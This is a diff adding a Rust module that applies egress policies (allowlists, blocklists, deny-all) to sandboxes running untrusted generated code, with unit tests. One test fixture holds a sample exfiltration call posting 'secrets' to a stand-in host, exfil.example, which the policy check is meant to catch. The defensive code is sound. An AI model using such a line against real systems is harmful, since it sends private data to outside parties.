@@ -0,0 +1,227 @@
+//! Outbound network access of sandboxes
+//!
+//! Generated code is untrusted, so each execution runs under a
+//! [`NetworkPolicy`]: no egress at all, egress to an allowlist of domains,
+//! egress anywhere but a blocklist, or full egress. The policy is applied to
+//! the sandbox's firewall when the sandbox is created; a sandbox is never
+//! moved to a different policy. A [`SandboxPolicy`] without package installs
+//! narrows the firewall so the package registries are unreachable. As a
+//! second line of defence, code mentioning URLs on hosts the policy does not
+//! permit is refused before it is sent to the sandbox.
+
+use copilot_core::{SandboxPolicy, PACKAGE_REGISTRIES};
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// Where code in a sandbox may connect to
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "mode", content = "domains", rename_all = "snake_case")]
+pub enum NetworkPolicy {
+    /// No outbound connections
+    DenyAll,
+    /// Only the listed domains and their subdomains
+    Allowlist(Vec<String>),
+    /// Any destination except the listed domains and their subdomains
+    Blocklist(Vec<String>),
+    /// Any destination
+    #[default]
+    FullEgress,
+}
+
+impl NetworkPolicy {
+    /// Egress to `domains` and their subdomains only
+    ///
+    /// A leading `*.` is accepted and ignored, as subdomains always match.
+    pub fn allowlist<I, S>(domains: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        Self::Allowlist(normalize_domains(domains))
+    }
+
+    /// Egress anywhere except `domains` and their subdomains
+    pub fn blocklist<I, S>(domains: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        Self::Blocklist(normalize_domains(domains))
+    }
+
+    /// Whether the sandbox gets any outbound access
+    pub fn has_egress(&self) -> bool {
+        match self {
+            Self::DenyAll => false,
+            Self::Allowlist(domains) => !domains.is_empty(),
+            Self::Blocklist(_) | Self::FullEgress => true,
+        }
+    }
+
+    /// Whether connections to `host` are allowed
+    pub fn permits(&self, host: &str) -> bool {
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        match self {
+            Self::DenyAll => false,
+            Self::Allowlist(domains) => domains.iter().any(|domain| within(&host, domain)),
+            Self::Blocklist(domains) => !domains.iter().any(|domain| within(&host, domain)),
+            Self::FullEgress => true,
+        }
+    }
+
+    /// This policy, narrowed to what `sandbox` allows
+    ///
+    /// Without network access there is no egress; without package installs
+    /// the package registries are unreachable.
+    pub fn restrict(self, sandbox: &SandboxPolicy) -> Self {
+        if !sandbox.network {
+            return Self::DenyAll;
+        }
+        if sandbox.package_installs {
+            return self;
+        }
+        match self {
+            Self::DenyAll => Self::DenyAll,
+            Self::Allowlist(domains) => Self::Allowlist(
+                domains
+                    .into_iter()
+                    .filter(|domain| {
+                        !PACKAGE_REGISTRIES
+                            .iter()
+                            .any(|registry| within(domain, registry) || within(registry, domain))
+                    })
+                    .collect(),
+            ),
+            Self::Blocklist(domains) => {
+                Self::blocklist(domains.iter().map(String::as_str).chain(PACKAGE_REGISTRIES.iter().copied()))
+            }
+            Self::FullEgress => Self::blocklist(PACKAGE_REGISTRIES),
+        }
+    }
+
+    /// Why `code` may not run under this policy, if it may not
+    pub fn violation(&self, code: &str) -> Option<String> {
+        if *self == Self::FullEgress {
+            return None;
+        }
+        url_hosts(code)
+            .find(|host| !self.permits(host))
+            .map(|host| format!("network access to {} is not permitted ({})", host, self))
+    }
+}
+
+impl fmt::Display for NetworkPolicy {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::DenyAll => write!(f, "deny-all"),
+            Self::Allowlist(domains) => write!(f, "allowlist: {}", domains.join(", ")),
+            Self::Blocklist(domains) => write!(f, "blocklist: {}", domains.join(", ")),
+            Self::FullEgress => write!(f, "full egress"),
+        }
+    }
+}
+
+/// Lowercased domains without wildcards or trailing dots, sorted and deduplicated
+fn normalize_domains<I, S>(domains: I) -> Vec<String>
+where
+    I: IntoIterator<Item = S>,
+    S: AsRef<str>,
+{
+    let mut domains: Vec<String> = domains
+        .into_iter()
+        .map(|d| d.as_ref().trim().trim_start_matches("*.").trim_end_matches('.').to_ascii_lowercase())
+        .filter(|d| !d.is_empty())
+        .collect();
+    domains.sort();
+    domains.dedup();
+    domains
+}
+
+/// Whether `host` is `domain` or one of its subdomains
+fn within(host: &str, domain: &str) -> bool {
+    host == domain || host.strip_suffix(domain).is_some_and(|rest| rest.ends_with('.'))
+}
+
+/// Hosts of the URLs mentioned in `code`
+fn url_hosts(code: &str) -> impl Iterator<Item = &str> {
+    code.split("://").skip(1).filter_map(|rest| {
+        let authority = rest
+            .split(|c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\'' | '`' | ')' | '>' | ','))
+            .next()?;
+        let host = authority.rsplit('@').next()?;
+        let host = match host.strip_prefix('[') {
+            Some(ipv6) => ipv6.split(']').next()?,
+            None => host.split(':').next()?,
+        };
+        (!host.is_empty()).then_some(host)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_allowlist_matches_domains_and_subdomains() {
+        let policy = NetworkPolicy::allowlist(["PyPI.org", "*.github.com", ""]);
+
+        assert_eq!(policy, NetworkPolicy::Allowlist(vec!["github.com".into(), "pypi.org".into()]));
+        assert!(policy.permits("pypi.org"));
+        assert!(policy.permits("files.pypi.org."));
+        assert!(policy.permits("api.github.com"));
+        assert!(!policy.permits("evilpypi.org"));
+        assert!(!policy.permits("pypi.org.evil.com"));
+        assert!(!NetworkPolicy::DenyAll.permits("pypi.org"));
+        assert!(!NetworkPolicy::allowlist(Vec::<String>::new()).has_egress());
+    }
+
+    #[test]
+    fn test_violation_names_the_first_blocked_host() {
+        let policy = NetworkPolicy::allowlist(["pypi.org"]);
+        let code = "requests.get('https://pypi.org/simple')\nrequests.post(\"http://user@exfil.example:8080/x\", data=secrets)";
+
+        assert_eq!(
+            policy.violation(code).unwrap(),
+            "network access to exfil.example is not permitted (allowlist: pypi.org)"
+        );
+        assert!(policy.violation("requests.get('https://pypi.org/simple')").is_none());
+        assert!(NetworkPolicy::DenyAll.violation("print(1)").is_none());
+        assert!(NetworkPolicy::DenyAll.violation("curl http://[::1]:80/").is_some());
+        assert!(NetworkPolicy::FullEgress.violation(code).is_none());
+    }
+
+    #[test]
+    fn test_sandbox_policy_restricts_network() {
+        let policy = NetworkPolicy::allowlist(["pypi.org"]);
+        assert_eq!(policy.clone().restrict(&SandboxPolicy::locked_down()), NetworkPolicy::DenyAll);
+        assert_eq!(policy.clone().restrict(&SandboxPolicy::unrestricted()), policy);
+
+        let json = serde_json::to_value(&policy).unwrap();
+        assert_eq!(json, serde_json::json!({ "mode": "allowlist", "domains": ["pypi.org"] }));
+        let deny: NetworkPolicy = serde_json::from_value(serde_json::json!({ "mode": "deny_all" })).unwrap();
+        assert_eq!(deny, NetworkPolicy::DenyAll);
+    }
+
+    #[test]
+    fn test_no_package_installs_blocks_registries() {
+        let no_installs = SandboxPolicy {
+            network: true,
+            package_installs: false,
+        };
+
+        let full = NetworkPolicy::FullEgress.restrict(&no_installs);
+        assert!(full.permits("api.github.com"));
+        assert!(!full.permits("pypi.org"));
+        assert!(!full.permits("files.pythonhosted.org"));
+        assert!(!full.permits("registry.npmjs.org"));
+        assert!(full.violation("pip install --index-url https://pypi.org/simple x").is_some());
+
+        let allowlist = NetworkPolicy::allowlist(["files.pythonhosted.org", "github.com", "npmjs.org"]).restrict(&no_installs);
+        assert_eq!(allowlist, NetworkPolicy::allowlist(["github.com"]));
+
+        let blocklist = NetworkPolicy::blocklist(["exfil.example"]).restrict(&no_installs);
+        assert!(!blocklist.permits("exfil.example"));
+        assert!(!blocklist.permits("crates.io"));
+        assert!(blocklist.permits("example.com"));
+    }
+}